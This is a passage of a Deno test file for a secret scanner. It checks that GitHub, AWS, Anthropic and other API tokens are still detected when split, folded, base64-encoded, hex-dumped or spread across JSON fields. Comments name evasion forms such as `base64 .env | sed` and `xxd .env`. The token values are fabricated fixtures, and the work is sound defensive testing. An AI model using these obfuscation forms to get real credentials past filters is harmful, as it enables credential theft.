    `$ echo ${a}; echo ${b}\n${a}\n${b}\n`,
    // Cut once by a dot or a colon.
    `id: ${a}.${b}`,
    `key=${a}:${b}`,
  ];
  const cases: [string, string][] = [
    [GH, "github-token"],
    [AWS, "aws-access-key-id"],
    [ANT, "anthropic-api-key"],
    [slack, "slack-token"],
    [stripe, "stripe-secret-key"],
  ];
  for (const [token, rule] of cases) {
    for (const at of [1, 2, 3]) {
      for (const code of forms(token.slice(0, at), token.slice(at))) {
        const asJson = JSON.stringify({
          messages: [{ role: "user", content: `$ cat k.js\n${code}` }],
        });
        const how = /["'`]/.test(code) ? "concatenated" : "split";
        for (const t of [code, asJson]) {
          assert.ok(found(t).includes(`${how}:${rule}`), `${found(t)}: ${t}`);
        }
        // Pointing at the prefix, its span the pieces as written.
        const f = findSecrets(code).find((f) => f.encoding === how)!;
        assert.equal(code.slice(f.index, f.index + at), token.slice(0, at), code);
        assert.ok(code.slice(f.index, f.index + f.length).endsWith(token.slice(-2)), code);
      }
    }
  }
  // The prefix in more pieces than two, the rest of the token in one or two.
  for (
    const code of [
      `k = "g" + "h" + "${GH.slice(2)}"`,
      `k = "gh" + "p_" + "${GH.slice(4)}"`,
      `k = "g" + "hp_Zq8L" + "${GH.slice(8)}"`,
      `k = "gh" + "${GH.slice(2, 22)}" + "${GH.slice(22)}"`,
    ]
  ) {
    assert.deepEqual(found(code), ["concatenated:github-token"], code);
  }
  // Pieces that start a prefix but make no token: a placeholder, words, a name.
  for (
    const code of [
      `k = "g" + "hp_" + "is_a_placeholder_here_xx"`,
      `words = ["gh", "p_the_quick_brown_fox_jumps"]`,
      `k = "s" + "k-" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaa"`,
      `k = "gh" + "p_" + name + "${GH.slice(4)}"`,
      `k = "A" + "KIA" + "${AWS.slice(4)}Z"`,
      // Words before a long word or a run, in prose and in code.
      `see gh p_the_quick_brown_fox_jumps over`,
      `a KIAQEGQVFOWZXMNABCD is no key`,
      `to sk-ant-internationalization-framework`,
      `x = a ${btoa("plain words and numbers 12345 ".repeat(4))}`,
    ]
  ) {
    assert.deepEqual(found(code), [], code);
  }
});

Deno.test("quoted pieces in code that make no token are not read as one", () => {
  for (
    const code of [
      // A prefix inside a word of a list (`cio` ends `inicio`), words without a digit.
      `KEYWORDS = ['fimse', 'funcao', 'inicio', 'int', 'interrompa', 'leia', 'limpatela']`,
      `NAMES = ("~CAT5IN", "A", "AADD", "ACCAT", "ACCOPTION", "ACEL", "AD")`,
      // A word that ends like a prefix, then an id (`cio`, crates.io's, ends `socio`).
      `row = ["socio", "8f3a9c1d7e2b4f6a0c5d9e8b7a6f5e4d"]`,
      // One character too long, the last piece's own: no key.
      `id = "${AWS.slice(0, 10)}" + "${AWS.slice(10)}Z"`,
      // A prefix and prose.
      `msg = "the ghp_" + " prefix is what a classic token starts with"`,
      `x = "ghp_" + name + "${GH.slice(4)}"`,
    ]
  ) {
    assert.deepEqual(found(code), [], code);
  }
});

Deno.test("a token cut into short lines (`fold -w 8`) is found, as written and in a model request", () => {
  const forms = (token: string): string[] => [
    // `fold -w N` of the token alone, at widths from the prefix's up to 15 (16 and more are
    // runs, joined as wrapped base64 is).
    ...[4, 5, 6, 8, 10, 12, 15].map((w) => `$ fold -w ${w} key\n${foldOf(token, w)}\n$ `),
    // After a label on the first line, which is wider than the rest.
    `token: ${token.slice(0, 8)}\n${foldOf(token.slice(8), 8)}\ndone`,
    // Windows line ends; the output's next line short too.
    `${foldOf(token, 6).replaceAll("\n", "\r\n")}\r\nok\r\n`,
  ];
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]]) {
    for (const text of forms(token!)) {
      const asJson = JSON.stringify({
        messages: [{ role: "user", content: [{ type: "tool_result", content: text }] }],
      });
      for (const t of [text, asJson]) {
        assert.ok(found(t).includes(`folded:${rule}`), `${found(t)}: ${JSON.stringify(t)}`);
      }
      // Pointing at the prefix, its span the lines as written.
      const f = findSecrets(text).find((f) => f.encoding === "folded")!;
      assert.equal(text.slice(f.index, f.index + 4), token!.slice(0, 4), text);
      assert.ok(text.slice(f.index, f.index + f.length).endsWith(token!.slice(-2)), text);
    }
  }
});

Deno.test("a token whose prefix has a separator inside or a dot at its end is found folded or in halves", () => {
  // Vault's `hvs.`, 42's `s-s4t2`, OpenShift's `sha256~`: pieces had been read only after
  // a prefix ending in `_` or `-`.
  const body =
    "CAESIJ8m2Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb1Hc5Jd8Fg2AeGh4Kj5Lm6Np7Qr8St9Uv0Wx1Yz2Ab3Cd4Ef5Gh6Ij7Kl8Mn";
  for (
    const [token, rule] of [
      ["hv" + "s." + body, "vault-service-token"],
      [
        "s-s4" + "t2ud-" + "d91c558a2ba6b47f60f690efc20a33d28c252d5bed8400343246f3eb68f490d2",
        "intra42-client-secret",
      ],
      ["sha2" + "56~" + "Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb1Hc5Jd8Fg2AeGh4Kj5L", "openshift-user-token"],
      // Slack's configuration token: its prefix (`xoxe.`) holds the dot.
      ["xox" + "e.xoxp-1-" + body.repeat(2).replaceAll(/[^A-Za-z0-9]/g, ""), "slack-config-token"],
    ]
  ) {
    assert.deepEqual(found(token!), [`plain:${rule}`]);
    const half = token!.length >> 1;
    const halves = `${token!.slice(0, half)} ${token!.slice(half)}`;
    const folded = token!.match(/.{1,12}/g)!.join("\n");
    assert.deepEqual(found(`echo ${halves}`), [`split:${rule}`], halves);
    assert.deepEqual(found(`$ fold -w 12 key\n${folded}\n$ `), [`folded:${rule}`], folded);
  }
});

Deno.test("a token cut into lines of one width is found when a short line of output follows", () => {
  // Lines of runs are joined with a last line shorter than a run (wrapped base64's), which
  // here is the next line of output: glued on, the token would be too long for its rule.
  const gcp = "AIza" + "SyNHxIf32IQ1a1yjl3ZJIqKZqzLAK1XhDk-";
  // Widths whose last line is a run of its own (16 or more).
  for (
    const [token, rule, widths] of [[GH, "github-token", [20, 24]], [gcp, "gcp-api-key", [
      20,
    ]]] as const
  ) {
    for (const width of widths) {
      const lines = token.match(new RegExp(`.{1,${width}}`, "g"))!;
      for (const after of ["ok", "$", "done=1"]) {
        const text = `$ fold -w ${width} key; echo ${after}\n${lines.join("\n")}\n${after}\n`;
        assert.ok(found(text).some((f) => f.endsWith(`:${rule}`)), `${found(text)}: ${text}`);
      }
      // In a JSON string, after an escaped break (whose letter a line's run starts with).
      const json = JSON.stringify({ out: `$ fold -w ${width} key\n${lines.join("\n")}\nok\n` });
      assert.ok(found(json).some((f) => f.endsWith(`:${rule}`)), `${found(json)}: ${json}`);
    }
  }
});

Deno.test("lines of one character over and over are not joined, and a token cut into lines beside them is found", () => {
  // A comment's rule of slashes, line after line (as TypeScript sources put between their
  // sections), then a short line: no join of them is read as a text of its own (a model
  // request of such sources had hundreds, a third of its scan), as written or in a JSON
  // string.
  const rule = "/".repeat(40);
  const banner = `${rule}\n${rule}\n//////////  ZodString  //////////\n${rule}\nexport`;
  for (const text of [banner, JSON.stringify({ content: banner })]) {
    assert.deepEqual(variants(text).filter((v) => v.encoding === "lines"), [], text);
  }
  // Filler lines around a token cut into lines: the token's lines are still joined.
  const lines = GH.match(/.{1,20}/g)!;
  for (const filler of ["/", "=", "-"]) {
    const text = `${filler.repeat(30)}\n${lines.join("\n")}\n${filler.repeat(30)}\n`;
    assert.ok(found(text).some((f) => f.endsWith(":github-token")), `${found(text)}: ${text}`);
    const json = JSON.stringify({ out: text });
    assert.ok(found(json).some((f) => f.endsWith(":github-token")), `${found(json)}: ${json}`);
  }
});

Deno.test("a run read before and found empty is passed over only where it stands the same way", () => {
  // Code names the same things over and over: a run its readers found nothing in is not
  // read again. A token turned around, base64-encoded or cut by a mark, each met first
  // among names and then again after an escaped break, after a `=` and in a JSON string,
  // is found at every place it is written.
  const names = "ZodFormattedError OAuthProtectedResourceMetadata get_template_attribute ";
  const forms = [
    [...GH].reverse().join(""),
    btoa(`GITHUB_TOKEN=${GH}`),
    `${GH.slice(0, 6)}-${GH.slice(6)}`,
  ];
  for (const form of forms) {
    const places = [` ${form} `, `\n${form}\n`, `=${form} `, JSON.stringify({ a: form })];
    const text = places.map((place) => names.repeat(20) + place).join("");
    const plain = findSecrets(text).filter((f) => f.encoding !== "plain");
    // Each place a finding of its own (its reading, or where it is written).
    assert.ok(plain.length >= places.length, `${form}: ${JSON.stringify(plain)}`);
    for (const place of places) {
      assert.ok(found(names.repeat(3) + place).length > 0, `${form} at ${place}`);
    }
  }
  // The same run read two ways: as written, `n` and then a token cut by a mark, which is
  // nothing; after a backslash, an escaped break's `n` and then that token.
  const cut = `${GH.slice(0, 6)}-${GH.slice(6)}`;
  const text = `${names} n${cut} ${names}\\n${cut}`;
  assert.deepEqual(found(`${names} n${cut} `), []);
  assert.deepEqual(found(text), ["cut:github-token"]);
});

Deno.test("a token cut into lines in a JSON string is found once, whatever line follows", () => {
  // Each line after an escaped break starts a run with the break's `n`: the join starts past
  // it, or its first line would read `nghp_...` (no token's start). The last line may be
  // full (a token whose length the width divides), short, or the output's next line.
  const gcp = "AIza" + "SyNHxIf32IQ1a1yjl3ZJIqKZqzLAK1XhDk-";
  for (const [token, rule] of [[GH, "github-token"], [gcp, "gcp-api-key"]] as const) {
    for (const width of [16, 20, 24, 32, 40]) {
      const lines = token.match(new RegExp(`.{1,${width}}`, "g"))!;
      for (const after of ["", "\nok", "\nsome more words\nhere"]) {
        const json = JSON.stringify({ out: `$ fold -w ${width} key\n${lines.join("\n")}${after}` });
        assert.deepEqual(found(json).map((f) => f.split(":")[1]), [rule], json);
      }
    }
  }
});

Deno.test("a token cut into indented lines is found: spaces or tabs, as written and in a JSON string", () => {
  // `fold -w 8 key | sed 's/^/  /'`, or a block in YAML or Markdown: short lines are read
  // from the prefix, each indented as the first after it; wider lines are joined as runs.
  for (const indent of ["  ", "\t", "    "]) {
    for (const width of [8, 12, 20, 24]) {
      const lines = GH.match(new RegExp(`.{1,${width}}`, "g"))!;
      const out = `key:\n${lines.map((l) => indent + l).join("\n")}\nok\n`;
      for (const text of [out, JSON.stringify({ out })]) {
        assert.deepEqual(found(text).map((f) => f.split(":")[1]), ["github-token"], text);
      }
    }
  }
  // base64 wrapped and indented, as a file is in a YAML block.
  const block = btoa(`config:\n  token: ${GH}\n  note: ${"x".repeat(60)}`).match(/.{1,64}/g)!;
  const yaml = `data:\n  env: |\n${block.map((l) => `    ${l}`).join("\n")}\n`;
  assert.ok(found(yaml).includes("base64:github-token"), yaml);
  // Indented lines of names, and short lines after a prefix that make no token, are none.
  assert.deepEqual(found("  first_long_identifier_name\n  second_long_identifier_name\n"), []);
  assert.deepEqual(found("see ghp_\n  and\n  more\n"), []);
});

Deno.test("a token or base64 cut into lines that each start with one prefix (`sed 's/^/data: /'`) is found joined", () => {
  // A quote's `> `, a comment's `# `, a log's stamp, server-sent events' `data: `: the
  // runs after it, joined, as written and as base64, whatever line the token falls across.
  const wraps = [
    (s: string) => s,
    (s: string) => s.replaceAll("\n", "\r\n"),
    (s: string) => JSON.stringify({ out: s }),
    (s: string) => JSON.stringify({ cell: JSON.stringify({ out: s }) }),
  ];
  // A log's stamp, the same on each line or counting on (`...:22Z`, `...:23Z`); a line's
  // number, right-aligned, as `cat -n` and an agent's file reader show a file (from 8
  // and 98 on: a digit where a space was).
  const stamps = [
    (i: number) => `2026-12-06T21:55:2${i % 10}Z stdout F `,
    (i: number) => `[12:00:0${i % 10}] `,
    (i: number) => `${String(i + 8).padStart(6)}\t`,
    (i: number) => `${String(i + 98).padStart(6)}→`,
  ];
  for (const prefix of ["data: ", "> ", "# ", "|", "2026-12-06T21:55:22Z stdout F ", ...stamps]) {
    const before = (i: number) => typeof prefix === "string" ? prefix : prefix(i);
    for (const wrap of wraps) {
      // `fold -w N`: lines of runs, the last one shorter (shorter than a run too), and
      // lines shorter than runs.
      for (const width of [6, 8, 12, 16, 20, 24, 30]) {
        const lines = GH.match(new RegExp(`.{1,${width}}`, "g"))!;
        const text = wrap(`${lines.map((l, i) => before(i) + l).join("\n")}\n`);
        const rules = found(text).map((f) => f.split(":")[1]);
        // (In a JSON string inside another, some widths are found twice: in the string
        // unescaped, and joined as written.)
        if (wrap === wraps[3]) assert.deepEqual([...new Set(rules)], ["github-token"], text);
        else assert.deepEqual(rules, ["github-token"], text);
      }
      // `base64 .env | sed ...`: the token across two lines at some of these places.
      for (let shift = 0; shift < 60; shift += 6) {
        const env = btoa(`${"#".repeat(shift)}\nTOKEN=${GH}\n`).match(/.{1,64}/g)!;
        const text = wrap(env.map((l, i) => before(i) + l).join("\n"));
        assert.ok(found(text).includes("base64:github-token"), text);
      }
    }
  }
  // A hex dump so (`xxd .env | sed 's/^/> /'`): read line by line after the prefix.
  const env = `TOKEN=${GH}\nNOTE=x\n`;
  const bytes = new TextEncoder().encode(env);
  const rows = Array.from({ length: Math.ceil(bytes.length / 16) }, (_, r) => {
    const row = [...bytes.subarray(r * 16, r * 16 + 16)];
    const groups = row.map((b) => b.toString(16).padStart(2, "0")).join("").match(/.{1,4}/g)!;
    const shown = row.map((b) => b >= 32 && b < 127 ? String.fromCharCode(b) : ".").join("");
    return `${(r * 16).toString(16).padStart(8, "0")}: ${groups.join(" ").padEnd(39)}  ${shown}`;
  });
  for (
    const prefix of ["> ", "- ", "# ", "data: ", "\t", ...stamps, (i: number) => `12:00:0${i} `]
  ) {
    for (const wrap of wraps) {
      const text = wrap(
        `${
          rows.map((row, i) => (typeof prefix === "string" ? prefix : prefix(i)) + row).join("\n")
        }\nok\n`,
      );
      assert.ok(found(text).includes("hexdump:github-token"), text);
    }
  }
  // Lines of names after one prefix, runs that do not end their line, lines whose prefixes
  // differ or are indentation alone (read as indented lines): none, or not so.
  assertNoneFound([
    "> first_long_identifier_name\n> second_long_identifier_name\n",
    "// seeTheDocumentationAbove\n// detailsAboutTheRulesHere\n",
    `> ${GH.slice(0, 20)} and\n> ${GH.slice(20)}\n`,
    `data: ${GH.slice(0, 20)}\nnote: ${GH.slice(20)}\n`,
  ]);
});

Deno.test("short lines after a prefix that make no token are not read as one", () => {
  assertNoneFound([
    // Words a line, without a digit; lines of different widths.
    "AKIA\nis\nthe\nprefix\nof\nan\nid",
    "ghp_\nclassic\ntokens\nstart\nso",
    `${AWS.slice(0, 10)}\n${AWS.slice(10, 13)}\n${AWS.slice(13)}`,
    // One character too many on the last line: no key.
    `${AWS.slice(0, 8)}\n${AWS.slice(8, 16)}\n${AWS.slice(16)}Z`,
    // The prefix inside a word.
    `xAKIAQ3EG\nQ2VFOW7Z\nXM4N`,
  ]);
});

Deno.test("a token split into a few pieces by spaces is found, as written and in a model request", () => {
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]]) {
    const t = token!;
    for (
      const text of [
        `${t.slice(0, 4)} ${t.slice(4, 12)} ${t.slice(12)}`,
        `key: ${t.slice(0, 14)} ${t.slice(14)}`,
        `${t.slice(0, 12)} ${t.slice(12, 16)} ${t.slice(16)} (in three)`,
        `${t.slice(0, 13)}\t${t.slice(13)}`,
      ]
    ) {
      const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
      for (const x of [text, asJson]) {
        assert.ok(found(x).includes(`split:${rule}`), `${found(x)}: ${x}`);
      }
      const f = findSecrets(text).find((f) => f.encoding === "split")!;
      assert.equal(text.slice(f.index, f.index + 4), t.slice(0, 4), text);
      assert.ok(text.slice(f.index, f.index + f.length).endsWith(t.slice(-4)), text);
    }
  }
});

Deno.test("a token split by more spaces, by blank lines, by commas or bars or into many pieces is found, as written and in a model request", () => {
  const SL = "xox" + "b-2401383461-6923473982614-bF0nWq4Xz8Lk2Mv7Rt9Yp3Hs";
  for (
    const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"], [SL, "slack-token"]]
  ) {
    const t = token!;
    // Cut a third of the way in: the Slack token's first half is one as it is.
    const k = Math.ceil(t.length / 3);
    for (
      const text of [
        // `echo` of each piece, a blank line between them.
        `$ echo a; echo; echo b\n${t.slice(0, k)}\n\n${t.slice(k)}\n$ `,
        `${t.slice(0, k)}  ${t.slice(k)}`,
        `${t.slice(0, k)}\t\t${t.slice(k, 2 * k)}   ${t.slice(2 * k)}`,
        // Indented, a blank line between the pieces (a Markdown block).
        `  ${t.slice(0, k)}\n\n  ${t.slice(k, 2 * k)}\n\n  ${t.slice(2 * k)}\n`,
        // The output's next line, two words on it: the token is found without them.
        `${t.slice(0, k)}\n\n${t.slice(k)}\n\nworking fine`,
        // Joined by a mark no token holds (`print(a, b, sep=", ")`, a row of a table).
        `${t.slice(0, k)}, ${t.slice(k, 2 * k)}, ${t.slice(2 * k)}`,
        `| ${t.slice(0, k)} | ${t.slice(k)} |`,
        `${t.slice(0, k)};${t.slice(k)}`,
        // Pieces of five, two spaces apart (ten of them for the Slack token); a short
        // remainder stays with the last.
        t.match(/.{5}(?:.{1,3}$)?|.+$/g)!.join("  "),
      ]
    ) {
      for (const x of [text, JSON.stringify({ content: text })]) {
        assert.deepEqual(found(x), [`split:${rule}`], x);
      }
      const f = findSecrets(text).find((f) => f.encoding === "split")!;
      assert.equal(text.slice(f.index, f.index + 4), t.slice(0, 4), text);
      // Its span covers the token (and the words after it that a rule with no set
      // length reads on into: the Slack token's last part).
      assert.ok(text.slice(f.index, f.index + f.length).includes(t.slice(-4)), text);
    }
  }
});

Deno.test("a token cut regularly by spaces, its remainder narrower than four a piece of its own, is found whole", () => {
  for (const mark of ["  ", "\t", ", "]) {
    const text = AWS.match(/.{1,6}/g)!.join(mark);
    for (const x of [text, JSON.stringify({ content: text })]) {
      assert.deepEqual(found(x), ["split:aws-access-key-id"], x);
    }
    const f = findSecrets(`echo ${text}`)[0]!;
    assert.equal(f.length, text.length, text);
  }
  // Not after pieces of different widths: a counter or a unit.
  assert.deepEqual(found(`${AWS.slice(0, 9)} ${AWS.slice(9, 17)} ${AWS.slice(17)}`), []);
});

Deno.test("a long token (an Anthropic key) split into pieces of four to six is found, each width, as written and in a model request", () => {
  const key = "sk-ant-" + "api03-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5".repeat(2) +
    "Qw3Er5Ty7Ui9Op1As3Df5" + "AA";
  assert.deepEqual(found(key), ["plain:anthropic-api-key"]);
  for (const size of [4, 5, 6, 7]) {
    // Up to 27 pieces, the last narrower (a regular cut).
    const text = key.match(new RegExp(`.{1,${size}}`, "g"))!.join(" ");
    for (const x of [text, JSON.stringify({ content: text })]) {
      assert.deepEqual(found(x), ["split:anthropic-api-key"], x);
    }
  }
});

Deno.test("tokens one a line, or a prefix ending a paragraph, are not read as one token in pieces", () => {
  const key = (c: string) => "sk" + `_live_${c.repeat(12)}7${c.repeat(11)}`;
  for (
    const text of [
      // Two keys one a line, a blank line between them: each its own (none here is one).
      `sk_live_short\n\n${key("A").slice(0, -1)}\n\n${key("B").replace("sk_live", "sk_test")}`,
      // A prefix at a paragraph's end, then the next paragraph (its first word holding the
      // prefix again).
      "Keys begin with AKIA\n\nnotAKIA2QWERTY7ASDFGH4ZX and more",
      // A prefix, then prose over lines: no digit, no letters a key holds.
      "ghp_\n\nclassic personal access tokens begin this way\n\nfine grained ones do not",
      // Prefixes listed, and a row of a table after a prefix.
      "ghp_, gho_, ghu_, ghs_ and ghr_ are GitHub's",
      "| AKIA | access key | 2024-01-15 | rotated |",
    ]
  ) {
    assert.deepEqual(found(text).filter((f) => f.startsWith("split")), [], text);
  }
});

Deno.test("a list of names of one width that end alike (locales) is read as no token in pieces, folded or not", () => {
  const locales = ["en_PH", "en_SC", "en_SG", "en_US", "en_ZA", "zh_HK", "zh_SG", "zh_TW", "zu_ZA"];
  assertNoneFound([
    // `/etc/locale.gen`: `en_SG.UTF-8 UTF-8`, read on into the lines after it as a SendGrid
    // key's `SG.` and its pieces.
    locales.map((l) => `# ${l}.UTF-8 UTF-8\n# ${l} ISO-8859-1`).join("\n"),
    locales.map((l) => `${l}.UTF-8 UTF-8\n${l} ISO-8859-1`).join("\n"),
    // X11's `compose.dir`: the names one a line after a column of their own, and lines of
    // one width (as `fold -w 11` cuts a token) joined.
    locales.map((l) => `en_US.UTF-8/Compose\t\t${l}.UTF-8`).join("\n"),
    locales.map((l) => `iso8859-1/Compose:\t\t${l}.ISO8859-1`).join("\n"),
  ]);
});

Deno.test("a JWT whose claims repeat themselves, cut into lines of any width, is found: its lines start and end alike as a list's do", () => {
  // `read:all ` forty times: its base64 repeats every twelve characters, so lines of 12
  // or 24 all end alike, and lines of 16 or 64 start alike every third line.
  const claims = btoa(JSON.stringify({ sub: "1234567890", scope: "read:all ".repeat(40) }));
  const jwt = `${btoa('{"alg":"HS256","typ":"JWT"}')}.${claims}.`.replaceAll("=", "") +
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  for (const width of [8, 12, 16, 24, 36, 64]) {
    const folded = jwt.match(new RegExp(`.{1,${width}}`, "g"))!.join("\n");
    for (const text of [folded, JSON.stringify({ content: folded })]) {
      assert.ok(found(text).some((f) => f.endsWith(":jwt")), `${width}: ${found(text)}`);
    }
  }
});

Deno.test("a token in capitals is found where it can be had back: a checksum, or letters of one case", () => {
  // GitHub's and npm's carry a checksum (their cases are tried against it); a Databricks
  // token's body is hex, the same in capitals.
  const databricks = "da" + "pi0f13ac4b49d1cb31f69f678e39602e38";
  for (
    const [token, rule] of [
      [GH, "github-token"],
      [NPM, "npm-access-token"],
      [databricks, "databricks-api-token"],
    ] as const
  ) {
    const upper = token.toUpperCase();
    for (const text of [`export TOKEN=${upper}`, JSON.stringify({ out: `$ env\n${upper}\n` })]) {
      assert.deepEqual(found(text), [`capitals:${rule}`], text);
    }
    const text = `token: ${upper} (upper-cased)`;
    const f = findSecrets(text)[0]!;
    assert.equal(text.slice(f.index, f.index + f.length), upper, text);
    assert.match(howWritten(f.encoding), /capital/);
  }
  assertNoneFound([
    // A Google API key in capitals has lost a bit a letter: no key any more.
    "echo " + ("AIza" + "SyDq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2").toUpperCase(),
    // A constant's name, and a word of both cases (as the rule writes it, or not a token).
    "GHP_TOKEN_FOR_THE_DEPLOYMENT_JOB_2024",
    "NPM_Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5",
  ]);
});

Deno.test("a token of letters only (Hugging Face's) is found in pieces or groups: its cases mixed stand for a digit", () => {
  // Pieces are read as a token only with a digit after the prefix, which prose lacks; a
  // Hugging Face token has none, but its letters change case half the time.
  const hf = "hf" + "_jCBaQngSHiHDRYOcsMcifUcysGyEkQxWpZ";
  const org = "api" + "_org_PsvVHMtfecsbsdScIMRjhRoKbZqWnLtaxH";
  assert.deepEqual(found(hf), ["plain:huggingface-access-token"]);
  for (
    const [token, rule] of [
      [hf, "huggingface-access-token"],
      [org, "huggingface-organization-api-token"],
    ] as const
  ) {
    const half = token.length >> 1;
    const folded = token.match(/.{1,10}/g)!.join("\n");
    assert.deepEqual(found(`echo ${token.slice(0, half)} ${token.slice(half)}`), [`split:${rule}`]);
    assert.deepEqual(found(`$ fold -w 10\n${folded}\n$ `), [`folded:${rule}`], folded);
    assert.deepEqual(found(`t = "${token.slice(0, half)}" + "${token.slice(half)}"`), [
      `concatenated:${rule}`,
    ]);
    // Cut every so many characters by a dot or a colon: groups with no digit.
    for (const mark of [".", ":"]) {
      for (const size of [4, 8, 16]) {
        const written = token.match(new RegExp(`.{1,${size}}`, "g"))!.join(mark);
        assert.deepEqual(found(`t=${written};`), [`grouped:${rule}`], written);
      }
    }
  }
  // In a JSON string after an escaped break: `\napi_` holds another prefix (`napi_`), which
  // starts no token there (read from it, it covered the one that starts after it).
  const half = org.length >> 1;
  const out = `$ cat key\n${org.slice(0, half)} ${org.slice(half)}\n`;
  assert.deepEqual(found(JSON.stringify({ out })), ["split:huggingface-organization-api-token"]);
  // Words joined in camel case change case once a word: no token.
  assert.deepEqual(found(`hf_ ThisIsTheAccessTokenForTheModelHubAccount`), []);
  assert.deepEqual(found(`t = "hf_" + "ThisIsTheAccessTokenForTheModelHub"`), []);
  // Nor in groups: capitals' prose, or words in camel case.
  assert.deepEqual(found("hf_This.IsTh.eAcc.essT.oken.ForT.heMo.delH.ubAc.coun"), []);
  assert.deepEqual(found("AKIA.EAST.WEST.NORTH.SOUTH.ZONE.MAIN"), []);
});

Deno.test("a prefix and words after it, or pieces that make no token, are not read as one split by spaces", () => {
  assertNoneFound([
    // A prefix, then prose: too short, no digit, or letters no key holds.
    "ghp_ tokens are forty characters long 2024 and start with this prefix always",
    "ghp_ classic personal tokens begin this wayyyyy",
    "AKIA1234 IS THE START OF AN ACCESS KEY ID",
    // One character too long, in the last piece: no key.
    `${AWS.slice(0, 12)} ${AWS.slice(12)}Z`,
    // A piece too short to be one (a counter, a unit).
    `${AWS.slice(0, 17)} ${AWS.slice(17)} end`,
  ]);
});

Deno.test("digits of other scripts (Arabic-Indic, Devanagari, Thai) do not hide a token; prose keeps its own", () => {
  for (const zero of [0x0660, 0x06f0, 0x0966, 0x09e6, 0x0e50]) {
    const digits = (s: string) => s.replace(/\d/g, (d) => String.fromCharCode(zero + Number(d)));
    assert.ok(found(`t ${digits(GH)}`).includes("normalized:github-token"), digits(GH));
    assert.ok(found(`id ${digits(AWS)}`).includes("normalized:aws-access-key-id"), digits(AWS));
  }
  // An order number and a date in Arabic are left alone (not decoded, no finding).
  assert.deepEqual(
    found(
      "\u0631\u0642\u0645 \u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662 \u0662\u0660\u0662\u0666/\u0661\u0662",
    ),
    [],
  );
});

Deno.test("a secret split across query parameters, headers or JSON fields is found joined", () => {
  assert.deepEqual(
    findSplitSecrets([GH.slice(0, 12), GH.slice(12, 25), GH.slice(25)]).map((f) =>
      `${f.encoding}:${f.rule}`
    ),
    ["joined:github-token"],
  );
  assert.deepEqual(findSplitSecrets(["ghp_", "short"]), []);
  assert.deepEqual(findSplitSecrets([GH]), [], "a single field is not a split");
  // Among other fields, glued on either side: a JSON body's `role`s, a header's value.
  for (
    const fields of [
      ["user", "assistant", GH.slice(0, 20), GH.slice(20), "user", "Fix the tests"],
      ["application/json", GH.slice(0, 7), GH.slice(7), "gzip"],
      ["v1", GH.slice(0, 4), GH.slice(4, 30), GH.slice(30), "next"],
      // A spacer of prose between the pieces: a token holds no white space, it is left out.
      ["user", GH.slice(0, 20), "see the notes below", "", GH.slice(20), "user"],
      // A piece starting a line of a string that was itself JSON (its break still escaped).
      ["user", `{"a":"note\\n${GH.slice(0, 20)}`, `${GH.slice(20)}"}`, "user"],
      // Letters glued on after its body do not hide a token whose prefix has a separator.
      ["user", `${GH.slice(0, 20)}`, `${GH.slice(20)}x`, "user"],
    ]
  ) {
    assert.deepEqual(
      findSplitSecrets(fields).map((f) => f.rule),
      ["github-token"],
      fields.join(" | "),
    );
  }
  // But a field is not cut into: a token's shape at the end of a longer word of one
  // field, or across fields yet cut from a word before it, is no token; and a token whole
  // in one field is that field's finding, not a split one.
  for (
    const fields of [
      ["user", GH, "user"],
      ["user", `x${GH}`, "user"],
      ["user", `${GH}x`, "user"],
      ["user", `x${GH.slice(0, 20)}`, `${GH.slice(20)}`, "user"],
      ["user", `xAKIA${AWS.slice(4, 12)}`, `${AWS.slice(12)}`, "user"],
      ["user", `${AWS.slice(0, 12)}`, `${AWS.slice(12)}X`, "user"],
    ]
  ) {
    assert.deepEqual(findSplitSecrets(fields), [], fields.join(" | "));
  }
});

Deno.test("a secret split across fields with other fields between its pieces is found, its pieces in any order", () => {
  const cases: [string[], string][] = [
    // Query parameters, a counter and a flag between (`?a=ghp_Zq8L&n=1&b=w2Rt...&on=true`).
    [["user", GH.slice(0, 12), "1", GH.slice(12), "true"], "github-token"],
    // Three pieces, ordinary values between each.
    [[GH.slice(0, 9), "en-US", GH.slice(9, 25), "gzip", "2", GH.slice(25), "user"], "github-token"],
    [[AWS.slice(0, 10), "application", AWS.slice(10)], "aws-access-key-id"],
    [
      ["x", ANT.slice(0, 30), "toolu_01A09q90qw90lq917835lq9", ANT.slice(30, 70), ANT.slice(70)],
      "anthropic-api-key",
    ],
    // A name between values, as names and values come in a request.
    [["a", NPM.slice(0, 10), "b", NPM.slice(10)], "npm-access-token"],
    // In another order than the fields come (a piece in a header, the first in the body).
    [[GH.slice(20), "1", GH.slice(0, 20)], "github-token"],
    [["x", AWS.slice(12), "y", AWS.slice(0, 6), "z", AWS.slice(6, 12)], "aws-access-key-id"],
    // Its prefix cut between two fields side by side, then another field before the rest.
    [["gh", GH.slice(2, 12), "en-US", GH.slice(12)], "github-token"],
  ];
  for (const [fields, rule] of cases) {
    assert.deepEqual(
      findSplitSecrets(fields).map((f) => `${f.encoding}:${f.rule}`),
      [`joined:${rule}`],
      fields.join(" | "),
    );
  }
  // No token from a start and fields that make none: too short, too long, no start at all,
  // a start inside a word.
  for (
    const fields of [
      ["ghp_", "short", "1"],
      [GH.slice(0, 12), "1", "short", "x"],
      ["user", "assistant", "toolu_01A09q90qw90lq917835lq9", "end_turn", "claude", "8f3a9c2e"],
      [`x${GH.slice(0, 12)}`, "1", GH.slice(12)],
    ]
  ) {
    assert.deepEqual(findSplitSecrets(fields), [], fields.join(" | "));
  }
  // Declared public, it is none.
  try {
    setPublicValues([GH]);
    assert.deepEqual(findSplitSecrets(["user", GH.slice(0, 12), "en-US", GH.slice(12)]), []);
  } finally {
    setPublicValues([]);
  }
});

Deno.test("a token turned around, then cut into fields, is found at the fields' edges", () => {
  for (const token of [GH, AWS]) {
    for (const [how, turned] of turningsOf(token)) {
